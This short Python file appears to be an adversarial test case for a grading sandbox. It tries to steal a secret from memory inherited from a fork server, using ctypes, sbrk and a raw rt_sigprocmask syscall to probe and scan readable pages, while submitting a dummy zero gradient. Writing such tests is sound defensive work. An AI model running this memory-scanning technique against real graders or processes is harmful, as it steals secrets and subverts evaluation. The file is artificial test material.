# attack: steal
# goal: scan the memory inherited from the fork server for a secret
# expect: WRONG_GRADIENT

import ctypes
import platform
import re

PATTERN = re.compile(b"SECRET-[0-9a-f]{32}")
PAGE, SPAN = 4096, 1024
LIBC = ctypes.CDLL(None)
LIBC.sbrk.restype = ctypes.c_void_p
RT_SIGPROCMASK = 135 if platform.machine() == "aarch64" else 14
UNBLOCK = 1  # the call reads its argument from memory, or says that it cannot


def readable(address):
    return LIBC.syscall(ctypes.c_long(RT_SIGPROCMASK), UNBLOCK, ctypes.c_void_p(address), None, ctypes.c_long(8)) == 0


def scan(start, pages):
    for address in range(start, start + pages * PAGE, PAGE):
        if readable(address):
            yield from PATTERN.findall(ctypes.string_at(address, PAGE))


NEAR = {id(each) // PAGE * PAGE for each in (object(), re, "text", [], type)}
START = LIBC.sbrk(0) // PAGE * PAGE - 8 * SPAN * PAGE
for secret in {*scan(START, 8 * SPAN), *(found for near in NEAR for found in scan(near - SPAN * PAGE // 2, SPAN))}:
    print("GOT THROUGH", secret)


def gradient(x):
    return x * 0
